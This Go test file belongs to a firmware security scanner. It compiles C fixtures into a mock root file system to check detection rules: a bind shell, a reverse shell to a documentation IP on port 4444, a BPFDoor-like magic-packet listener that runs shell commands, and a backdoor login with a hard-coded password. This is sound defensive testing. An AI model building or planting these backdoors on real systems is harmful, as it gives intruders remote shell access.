package executable

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/bootsvc"
	"github.com/doorman-sec/doorman/exe"
	"github.com/doorman-sec/doorman/finding"
)

// C sources of the patterns and their clean near misses, compiled with
// the host's gcc. Every address is a documentation one (RFC 5737).
var cSources = map[string]string{
	// A classic bind shell: accept, dup2 the socket onto 0/1/2, exec sh.
	"bindshell": `#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(31337);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 1);
	int c = accept(s, 0, 0);
	for (int i = 0; i < 3; i++) dup2(c, i);
	execl("/bin/sh", "sh", "-i", (char *)0);
	return 0;
}
`,
	// A reverse shell to a hard-coded address.
	"revshell": `#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(4444);
	a.sin_addr.s_addr = inet_addr("198.51.100.23");
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
	for (int i = 0; i < 3; i++) dup2(s, i);
	execl("/bin/sh", "sh", "-i", (char *)0);
	return 0;
}
`,
	// Near miss: a daemon that detaches (dup2 onto /dev/null), serves a
	// port and runs a fixed hook program — no shell.
	"hookd": `#include <sys/socket.h>
#include <netinet/in.h>
#include <fcntl.h>
#include <unistd.h>
int main(void) {
	int n = open("/dev/null", O_RDWR);
	for (int i = 0; i < 3; i++) dup2(n, i);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(8080);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 8);
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0) break;
		write(c, "ok\n", 3);
		close(c);
		if (fork() == 0) { execl("/usr/libexec/hookd/on-connect", "on-connect", (char *)0); _exit(1); }
	}
	return 0;
}
`,
	// A BPFDoor-like listener: raw packet socket, a BPF filter kept as a
	// static table (as BPFDoor's is), magic bytes compared, then a shell.
	"magicd": `#include <sys/socket.h>
#include <linux/if_ether.h>
#include <linux/filter.h>
#include <arpa/inet.h>
#include <string.h>
#include <unistd.h>
static const struct sock_filter code[] = {
	{0x28, 0, 0, 0x0000000c}, {0x15, 0, 5, 0x00000800}, {0x30, 0, 0, 0x00000017},
	{0x15, 0, 3, 0x00000011}, {0x28, 0, 0, 0x00000014}, {0x45, 1, 0, 0x00001fff},
	{0x06, 0, 0, 0x0000ffff}, {0x06, 0, 0, 0x00000000},
};
int main(void) {
	struct sock_fprog prog = {sizeof code / sizeof code[0], (struct sock_filter *)code};
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof prog);
	char buf[2048];
	for (;;) {
		ssize_t n = recvfrom(s, buf, sizeof buf, 0, 0, 0);
		if (n > 64 && memcmp(buf + 42, "X5\x01\x7f", 4) == 0 && fork() == 0) {
			execl("/bin/sh", "sh", "-c", buf + 46, (char *)0);
			_exit(0);
		}
	}
}
`,
	// A network login with a baked-in password that hands out a shell.
	"mgmtd": `#include <sys/socket.h>
#include <netinet/in.h>
#include <string.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(2323);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 1);
	int c = accept(s, 0, 0);
	char pw[64] = {0};
	write(c, "Password: ", 10);
	read(c, pw, sizeof pw - 1);
	pw[strcspn(pw, "\r\n")] = 0;
	if (strcmp(pw, "xc3511") == 0) {
		for (int i = 0; i < 3; i++) dup2(c, i);
		execl("/bin/sh", "sh", (char *)0);
	}
	write(c, "Login incorrect\n", 16);
	return 0;
}
`,
	// Near miss: a login that checks the shadow file, nothing baked in.
	"login": `#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
	char pw[128];
	printf("%s login: ", argc > 1 ? argv[1] : "host");
	fputs("Password: ", stdout);
	if (!fgets(pw, sizeof pw, stdin)) return 1;
	FILE *f = fopen("/etc/shadow", "r");
	char line[512];
	while (f && fgets(line, sizeof line, f)) {
		if (strncmp(line, "root:", 5) == 0 && strstr(line, pw)) { execl("/bin/sh", "-sh", (char *)0); }
	}
	puts("Login incorrect");
	return 1;
}
`,
}

// compile builds the C programs into dir; it skips the test when gcc is
// missing (fails under CI) or when exe.Parse cannot read what gcc makes
// (the parser not landed yet).
func compile(t *testing.T, dir string, names ...string) map[string]string {
	t.Helper()
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("gcc is needed")
		}
		t.Skip("gcc not installed")
	}
	out := map[string]string{}
	src := t.TempDir()
	for _, n := range names {
		c := filepath.Join(src, n+".c")
		if err := os.WriteFile(c, []byte(cSources[n]), 0o644); err != nil {
			t.Fatal(err)
		}
		bin := filepath.Join(src, n)
		if msg, err := exec.Command(gcc, "-O1", "-o", bin, c).CombinedOutput(); err != nil {
			t.Fatalf("gcc %s: %v\n%s", n, err, msg)
		}
		out[n] = bin
	}
	f, err := os.Open(out[names[0]])
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st, _ := f.Stat()
	if _, err := exe.Parse(f, st.Size()); errors.Is(err, exe.ErrNotExecutable) {
		t.Skip("exe.Parse does not read ELF yet (placeholder)")
	}
	return out
}

// place copies a compiled program to dir/rel.
func place(t *testing.T, dir, rel, from string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

func write(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
}

// atLeast returns the one finding of rule on path at or above s.
func atLeast(t *testing.T, r *finding.Report, rule, path string, s finding.Severity) {
	t.Helper()
	fs := analyzertest.Find(r, rule, path)
	if len(fs) != 1 || fs[0].Severity < s {
		t.Errorf("%s on %s: want one at or above %s, got %+v", rule, path, s, fs)
	}
}

// quiet checks that nothing at or above medium is reported on path.
func quiet(t *testing.T, r *finding.Report, path string) {
	t.Helper()
	for _, f := range analyzertest.Find(r, rulePrefix, path) {
		if f.Severity >= finding.Medium {
			t.Errorf("%s: %s at %s: %s", path, f.Rule, f.Severity, f.Message)
		}
	}
}

// Real compiled programs in a small root file system whose boot starts
// the bind shell.
func TestCompiledPrograms(t *testing.T) {
	bins := compile(t, t.TempDir(), "bindshell", "revshell", "hookd", "magicd", "mgmtd", "login")
	root := t.TempDir()
	place(t, root, "usr/sbin/svcmgr", bins["bindshell"])
	place(t, root, "tmp/.x/upd", bins["revshell"])
	place(t, root, "usr/sbin/hookd", bins["hookd"])
	place(t, root, "usr/sbin/hald-addon", bins["magicd"])
	place(t, root, "sbin/udhcpc", bins["magicd"]) // what a DHCP client does too
	place(t, root, "usr/sbin/mgmtd", bins["mgmtd"])
	place(t, root, "bin/login", bins["login"])
	write(t, root, "etc/inittab", "::sysinit:/etc/init.d/rcS\n")
	write(t, root, "etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/svcmgr &\n/usr/sbin/hookd\n")
	r := analyzertest.ScanPath(t, []*analyzer.Analyzer{bootsvc.Analyzer, Analyzer}, root)
	for _, f := range r.Findings {
		t.Logf("%s %s %s: %s [%s]", f.Severity, f.Rule, f.Location.Path, f.Message, f.Evidence)
	}
	atLeast(t, r, RuleBindShell, "usr/sbin/svcmgr", finding.Critical)
	atLeast(t, r, RuleReverseShell, "tmp/.x/upd", finding.Medium) // the RFC 5737 address is not kept by exe.Parse
	atLeast(t, r, RuleMagicPacket, "usr/sbin/hald-addon", finding.High)
	quiet(t, r, "sbin/udhcpc")
	atLeast(t, r, RuleHiddenCred, "usr/sbin/mgmtd", finding.High)
	quiet(t, r, "usr/sbin/hookd")
	quiet(t, r, "bin/login")
	bins2, _ := r.Inventory["binaries"].([]Binary)
	if len(bins2) != 7 {
		t.Fatalf("inventory: %+v", bins2)
	}
	for _, b := range bins2 {
		if b.Format != "elf" || b.Arch == "" || b.Linkage != "dynamic" || b.Size == 0 || len(b.Capabilities) == 0 {
			t.Errorf("inventory entry: %+v", b)
		}
	}
}
